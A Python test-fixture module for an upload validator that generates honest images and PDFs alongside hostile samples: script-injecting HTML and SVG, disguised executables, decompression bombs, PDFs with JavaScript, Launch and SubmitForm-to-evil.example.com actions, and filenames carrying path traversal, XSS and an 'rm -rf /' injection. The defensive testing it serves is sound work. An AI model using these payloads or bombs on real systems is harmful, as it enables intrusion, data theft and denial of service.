"""Papers to send: honest ones, and files that are not what they seem. All of them made here."""

import base64
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image


def image(
    kind: str,
    size: tuple[int, int] = (60, 40),
    mode: str = "RGB",
    *,
    colour: tuple[int, int, int] | None = None,
    **options: Any,
) -> bytes:
    """A picture: its left half red, or all of it of one colour."""
    picture = Image.new(mode, size, colour or "white")
    if mode == "RGB" and colour is None:
        picture.paste((200, 0, 0), (0, 0, size[0] // 2, size[1]))
    made = io.BytesIO()
    picture.save(made, kind, **options)
    return made.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda document: None, **options: Any) -> bytes:
    """A PDF of one page, changed before it is saved."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    change(document)
    made = io.BytesIO()
    document.save(made, **options)
    return made.getvalue()


def with_ink(document: pikepdf.Pdf) -> None:
    """A black square in the middle of the page."""
    document.pages[0].Contents = document.make_stream(b"200 300 200 200 re f")


def rotated_photo() -> bytes:
    """A phone's photo: lying on its side, with a note to turn it, a place and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it a quarter to the right
    exif[0x010E] = "SECRET DESCRIPTION"
    exif.get_ifd(0x8825)[1] = "N"
    return image("JPEG", exif=exif, comment=b"SECRET COMMENT")


PHOTO = rotated_photo()
PICTURE = image("PNG")
DOCUMENT = pdf()
# With a table of objects as such, which newer files pack.
_TABLED = pdf(with_ink, object_stream_mode=pikepdf.ObjectStreamMode.disable)
# As phones make it (ISO 23008-12), with its left two thirds red; made by libheif.
HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAb5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAADRpbG9j"
    "AAAAAERAAAIAAQAAAAAB4gABAAAAAAAAAJsAAgAAAAACfQABAAAAAAAAACQAAAA4aWluZgAAAAAAAgAAABVpbmZlAgAAAAABAABodmMxAAAA"
    "ABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAAA/WlwcnAAAADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNg"
    "AAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZE"
    "AcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AA"
    "AAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAABppcmVmAAAAAAAAAA5jZHNjAAIAAQABAAAAx21kYXQAAACX"
    "KAGvE4D4EOGn//0DKP/4d88Py3q5iVb+u+EUfWlT/8ZGg/JKRa6aLjI6oNP6/DtMIm2h1KpEq5AaBZeCTRkjcR0yiKTwY2/3dC9jnwnmmNH1"
    "XMHMx+dIfMbuLIBK1P7MdRL2JyzMRSoASqY8ptEJMrF4GXuJxuEk7xnu/WwWbDa7Pn8J9E4iwXfNUnpJta+gkkljlFx/cAAAAAZFeGlmAABN"
    "TQAqAAAACAABARIAAwAAAAEABgAAAAAAAA=="
)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    """A PNG that claims to be so large, with those compressed rows."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def with_chunks(*chunks: bytes) -> bytes:
    """A PNG with more chunks behind its header."""
    return PICTURE[:33] + b"".join(chunks) + PICTURE[33:]


def _packed_zeros(megabytes: int) -> bytes:
    """So many zeros as zlib packs them (RFC 1950): one part over and over, for packing each would take seconds."""
    packer = zlib.compressobj(9, wbits=-15)
    part = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler32 = ((megabytes << 20) % 65521) << 16 | 1
    return b"\x78\xda" + part * megabytes + packer.flush() + struct.pack(">I", adler32)


def archive(content: bytes = b"MZ") -> bytes:
    """A ZIP with a program in it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        opened.writestr("setup.exe", content)
    return made.getvalue()


def _with_action(action: dict[str, Any]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(action)

    return pdf(change)


def _with_link(action: dict[str, Any]) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
        link.A = pikepdf.Dictionary(action)
        document.pages[0].Annots = pikepdf.Array([link])

    return pdf(change)


def _with_attachment() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["setup.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")

    return pdf(change)


def _with_form() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))

    return pdf(change)


def _with_hidden_zip() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(archive() + b" ")

    return pdf(change, compress_streams=False)


def _heavy_objects() -> bytes:
    """A PDF whose index of objects unpacks to two gigabytes."""
    packed = _packed_zeros(2048)
    parts = [b"%PDF-1.7\n"]
    at = len(parts[0])
    head = f"1 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Length {len(packed)}/Filter/FlateDecode>>\nstream\n"
    parts += [head.encode(), packed, f"\nendstream\nendobj\nstartxref\n{at}\n%%EOF".encode()]
    return b"".join(parts)


def _filled_in() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        appearance = document.make_stream(
            b"0 0 200 100 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 100]
        )
        field = document.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T="name",
                V="Tom",
                F=4,
                Rect=pikepdf.Array([60, 682, 260, 782]),
                AP=pikepdf.Dictionary(N=appearance),
            )
        )
        document.pages[0].Annots = pikepdf.Array([field])
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    return pdf(change)


def _drawing(form: dict[str, Any] | None = None, content: bytes = b"", **of_stream: Any) -> bytes:
    """A PDF whose page draws one object, a form unless it is said otherwise."""

    def change(document: pikepdf.Pdf) -> None:
        usual = {"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Form, "/BBox": pikepdf.Array([0, 0, 9, 9])}
        made = document.make_stream(content, usual | (form or {}), **of_stream)
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=made))
        document.pages[0].Contents = document.make_stream(b"/X Do")

    return pdf(change, compress_streams=False)


def _with_annotation(subtype: str, **of_it: Any) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        about = {"/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name(subtype), "/Rect": pikepdf.Array([0, 0, 9, 9])}
        document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(about | {f"/{k}": v for k, v in of_it.items()})])

    return pdf(change)


def _at_root(**entries: Any) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            document.Root[f"/{name}"] = value

    return pdf(change)


def _unfolding(megabytes: int, times: int = 1, **of_page: Any) -> bytes:
    """A PDF whose page unfolds to so many megabytes of blanks."""

    def change(document: pikepdf.Pdf) -> None:
        packed = _packed_zeros(megabytes)
        names: list[pikepdf.Object] = [pikepdf.Name.FlateDecode] * times
        for _ in range(times - 1):
            packed = zlib.compress(packed, 9)
        document.pages[0].Contents = document.make_stream(packed, Filter=pikepdf.Array(names))

    return pdf(change, compress_streams=False)


def _unfolding_otherwise(name: str, content: bytes, *others: str) -> bytes:
    """A PDF whose page is packed in other ways than Flate alone."""

    def change(document: pikepdf.Pdf) -> None:
        names = [pikepdf.Name(f"/{one}Decode") for one in (name, *others)]
        document.pages[0].Contents = document.make_stream(content, Filter=pikepdf.Array(names))

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _pages(count: int) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for _ in range(count - 1):
            document.add_blank_page(page_size=(595, 842))

    return pdf(change)


def _named(action: str) -> dict[str, Any]:
    return {"/S": pikepdf.Name(action), "/F": "other.pdf", "/D": pikepdf.Array([0, pikepdf.Name.Fit])}


def _wrong_offsets(content: bytes) -> bytes:
    """A table of objects that is some bytes off, as editors of text leave it."""
    at = content.rindex(b"xref\n", 0, content.rindex(b"startxref"))
    return content[:at] + re.sub(rb"(\d{10})(?= 00000 n)", lambda to: b"%010d" % (int(to[1]) + 3), content[at:])


JAVASCRIPT = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}
LAUNCH = {"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}
SUBMIT = {"/S": pikepdf.Name.SubmitForm, "/F": "https://evil.example.com"}

# name: (announced type, content, why it is rejected)
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "a page": ("image/png", b"<!doctype html><script>alert(1)</script>", "other_type"),
    "a drawing with a script": (
        "image/png",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "other_type",
    ),
    "a program": ("application/pdf", b"MZ" + bytes(500), "other_type"),
    "a ZIP": ("application/pdf", archive(), "other_type"),
    "a GIF": ("image/png", image("GIF", mode="P"), "other_type"),
    "a TIFF": ("image/jpeg", image("TIFF"), "other_type"),
    "half a JPEG": ("image/jpeg", image("JPEG", (600, 400))[:-900], "damaged"),
    "half a PNG": ("image/png", image("PNG", (600, 400))[:-40], "damaged"),
    "half a PDF": ("application/pdf", DOCUMENT[: len(DOCUMENT) // 2], "damaged"),
    "only a signature of JPEG": ("image/jpeg", b"\xff\xd8\xff", "damaged"),
    "only a signature of PNG": ("image/png", b"\x89PNG\r\n\x1a\n", "damaged"),
    "only a signature of PDF": ("application/pdf", b"%PDF-1.7\n%%EOF", "damaged"),
    "a bomb of pixels": ("image/png", png_of(60_000, 60_000, zlib.compress(bytes(1 << 20))), "too_heavy"),
    "a bomb of text": (
        "image/png",
        png_of(1, 1, zlib.compress(b"\0\0"), _chunk(b"zTXt", b"a\0\0" + _packed_zeros(256))),
        "too_heavy",
    ),
    "a bomb of objects": ("application/pdf", _heavy_objects(), "too_heavy"),
    "something before a PDF": ("application/pdf", b"<script>alert(1)</script>\n" + DOCUMENT, "disguised"),
    "something after a PDF": ("application/pdf", DOCUMENT + b"<script>alert(1)</script>", "disguised"),
    "a ZIP after a PDF": ("application/pdf", DOCUMENT + archive(), "disguised"),
    "a ZIP inside a PDF": ("application/pdf", _with_hidden_zip(), "disguised"),
    "a PDF that runs a script": ("application/pdf", _with_action(JAVASCRIPT), "active"),
    "a PDF whose link runs a script": ("application/pdf", _with_link(JAVASCRIPT), "active"),
    "a PDF that starts a program": ("application/pdf", _with_action(LAUNCH), "active"),
    "a PDF that sends itself": ("application/pdf", _with_link(SUBMIT), "active"),
    "a PDF with a file inside": ("application/pdf", _with_attachment(), "active"),
    "a PDF with an active form": ("application/pdf", _with_form(), "active"),
    "a PDF with a password": (
        "application/pdf",
        pdf(encryption=pikepdf.Encryption(owner="owner", user="user")),
        "encrypted",
    ),
    "a PDF without a page": ("application/pdf", pdf(lambda document: document.pages.__delitem__(0)), "damaged"),
}
_URI = {"/S": pikepdf.Name.URI, "/URI": "https://www.example.com/"}
_EMPTY_TREE = pikepdf.Dictionary(Names=pikepdf.Array())
# What acts by itself, carries something, or leads outside: name: content.
ACTING: dict[str, bytes] = {
    "another file at opening": _with_action(_named("/GoToR")),
    "a page at opening": _with_action(_URI),
    "an embedded file at opening": _with_action(_named("/GoToE")),
    "a thread at opening": _with_action(_named("/Thread")),
    "a print at opening": _with_action({"/S": pikepdf.Name.Named, "/N": pikepdf.Name.Print}),
    "a script after a page": _with_action(
        {"/S": pikepdf.Name.GoTo, "/D": "a", "/Next": pikepdf.Dictionary(JAVASCRIPT)}
    ),
    "a page after a page": _with_action({"/S": pikepdf.Name.GoTo, "/D": "a", "/Next": pikepdf.Dictionary(_URI)}),
    "another file at a click": _with_link(_named("/GoToR")),
    "an embedded file at a click": _with_link(_named("/GoToE")),
    "a thread at a click": _with_link(_named("/Thread")),
    "a script as an address": _with_link({"/S": pikepdf.Name.URI, "/URI": "javascript:alert(1)"}),
    "a file as an address": _with_link({"/S": pikepdf.Name.URI, "/URI": "file:///etc/passwd"}),
    "a kind that nobody knows": _with_link({"/S": pikepdf.Name.Surprise}),
    "a script of the page": pdf(lambda document: document.pages[0].__setitem__("/AA", {"/O": JAVASCRIPT})),
    "a page that is opened by the document": _at_root(AA=pikepdf.Dictionary(WC=pikepdf.Dictionary(_URI))),
    "a script by name": _at_root(
        Names=pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pikepdf.Dictionary(JAVASCRIPT)]))
        )
    ),
    "a content that lies elsewhere": _drawing({"/F": "https://evil.example.com/x"}),
    "a form that stands for another file's page": _drawing({"/Ref": pikepdf.Dictionary(F="other.pdf", Page=0)}),
    "a form in PostScript": _drawing({"/Subtype": pikepdf.Name.PS}, b"showpage"),
    "a form with PostScript": _drawing({"/Subtype2": pikepdf.Name.PS, "/PS": "x"}),
    "a film": _with_annotation("/Movie", Movie=pikepdf.Dictionary(F="film.avi")),
    "a sound": _with_annotation("/Sound"),
    "a scene": _with_annotation("/3D"),
    "rich media": _with_annotation("/RichMedia", RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(A=1))),
    "a file in a note": _with_annotation("/FileAttachment"),
    "an associated file": _at_root(AF=pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x")])),
}
HOSTILE.update({f"a PDF with {name}": ("application/pdf", content, "active") for name, content in ACTING.items()})
HOSTILE.update(
    {
        "a page that unfolds to 300 MiB": ("application/pdf", _unfolding(300), "too_heavy"),
        "a page that unfolds twice": ("application/pdf", _unfolding(300, times=2), "too_heavy"),
        "a page that unfolds from digits": (
            "application/pdf",
            _unfolding_otherwise("ASCIIHex", _packed_zeros(300).hex().encode() + b">", "Flate"),
            "too_heavy",
        ),
        "a page that unfolds by its runs": (
            "application/pdf",
            _unfolding_otherwise("Flate", zlib.compress(b"\x81 " * 12_000_000 + b"\x80"), "RunLength"),
            "too_heavy",
        ),
        "a PDF of 31 pages": ("application/pdf", _pages(31), "too_many_pages"),
        "a page behind a PDF's blanks": ("application/pdf", b"\n\n<html>", "other_type"),
        "a program as a photo": ("image/jpeg", b"MZ" + PHOTO, "other_type"),
        "another film": ("image/heic", b"\0\0\0\x18ftypmp42" + bytes(100), "other_type"),
        "half a photo of a phone": ("image/heic", HEIC[:-100], "damaged"),
        "only the signature of HEIC": ("image/heic", HEIC[:16], "damaged"),
    }
)
# What people send: name: (announced type, content).
HONEST: dict[str, tuple[str | None, bytes]] = {
    "a photo": ("image/jpeg", PHOTO),
    "a picture": ("image/png", PICTURE),
    "a document": ("application/pdf", DOCUMENT),
    "a PNG as JPEG": ("image/jpeg", PICTURE),
    "a JPEG as PNG": ("image/png", PHOTO),
    "a JPEG as PDF": ("application/pdf", PHOTO),
    "a PDF as PNG": ("image/png", DOCUMENT),
    "a type that some browsers name": ("image/jpg", PHOTO),
    "another such type": ("application/x-pdf", DOCUMENT),
    "no type that says anything": ("application/octet-stream", DOCUMENT),
    "an empty type": ("", PHOTO),
    "no type": (None, PICTURE),
    "a photo of a phone": ("image/heic", HEIC),
    "a photo without its last two bytes": ("image/jpeg", image("JPEG", (600, 400))[:-2]),
    "a progressive photo without its last two bytes": ("image/jpeg", image("JPEG", (600, 400), progressive=True)[:-2]),
    "a photo with something behind it": ("image/jpeg", PHOTO + b"MotionPhoto_Data" + bytes(3000)),
    "a photo in grey": ("image/jpeg", image("JPEG", mode="L")),
    "a photo in CMYK": ("image/jpeg", image("JPEG", mode="CMYK")),
    "a progressive photo": ("image/jpeg", image("JPEG", (4000, 3000), progressive=True)),
    "a picture with long metadata": (
        "image/png",
        with_chunks(_chunk(b"tEXt", b"XML:com.adobe.xmp\0" + b"x" * 3_000_000)),
    ),
    "a picture with long packed metadata": (
        "image/png",
        with_chunks(_chunk(b"zTXt", b"a\0\0" + _packed_zeros(8))),
    ),
    "a PDF with empty trees": (
        "application/pdf",
        _at_root(Names=pikepdf.Dictionary(JavaScript=_EMPTY_TREE, EmbeddedFiles=_EMPTY_TREE), AA=pikepdf.Dictionary()),
    ),
    "a PDF with links": ("application/pdf", _with_link(_URI)),
    "a PDF that writes an e-mail at a click": (
        "application/pdf",
        _with_link({"/S": pikepdf.Name.URI, "/URI": "mailto:a@example.com"}),
    ),
    "a PDF that turns its page at a click": (
        "application/pdf",
        _with_link({"/S": pikepdf.Name.Named, "/N": pikepdf.Name.NextPage}),
    ),
    "a PDF that opens at a page": (
        "application/pdf",
        _with_action({"/S": pikepdf.Name.GoTo, "/D": pikepdf.Array([0, pikepdf.Name.Fit])}),
    ),
    "a PDF that opens at its first page": (
        "application/pdf",
        _with_action({"/S": pikepdf.Name.Named, "/N": pikepdf.Name.FirstPage}),
    ),
    "a PDF without its last line": ("application/pdf", DOCUMENT.rpartition(b"%%EOF")[0]),
    "a PDF for the web": ("application/pdf", pdf(linearize=True)),
    "a PDF of 30 pages": ("application/pdf", _pages(30)),
    "a PDF as large as a plan": (
        "application/pdf",
        pdf(lambda document: document.pages[0].__setitem__("/MediaBox", [0, 0, 4000, 9000])),
    ),
    "a PDF as small as a card": (
        "application/pdf",
        pdf(lambda document: document.pages[0].__setitem__("/MediaBox", [0, 0, 241, 153])),
    ),
}
# Honest too, and with ink to be seen.
WITH_INK: dict[str, tuple[str | None, bytes]] = {
    "a PDF that may not be printed": (
        "application/pdf",
        pdf(
            with_ink,
            encryption=pikepdf.Encryption(
                owner="owner", user="", allow=pikepdf.Permissions(print_lowres=False, print_highres=False)
            ),
        ),
    ),
    "an old PDF that may not be printed": (
        "application/pdf",
        pdf(with_ink, encryption=pikepdf.Encryption(owner="owner", user="", R=3, aes=False, metadata=False)),
    ),
    "a PDF behind a blank line": ("application/pdf", b"\r\n" + _TABLED),
    "a PDF behind a byte-order mark": ("application/pdf", b"\xef\xbb\xbf" + _TABLED),
    "a PDF with a slightly wrong table": ("application/pdf", _wrong_offsets(_TABLED)),
    "a PDF whose table is elsewhere": ("application/pdf", _TABLED.replace(b"startxref\n", b"startxref\n9")),
    "a PDF with bytes behind it": ("application/pdf", _TABLED + b"\r\n\x1a\0\0garbage\x80\n"),
    "a PDF with blanks behind it": ("application/pdf", _TABLED + b"\r\n\0\n" + bytes(5000)),
}
HONEST.update(WITH_INK)
# A form with a field that is filled in, its appearance with it, as programs for forms save it.
FORM = _filled_in()
# What a file may be called.
NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "<img src=x onerror=alert(1)>.png",
    '"; rm -rf / #.pdf',
    "${filename}",
    "quarantine/other/kbis/0",
    "pièce d’identité 📷.jpeg",
)
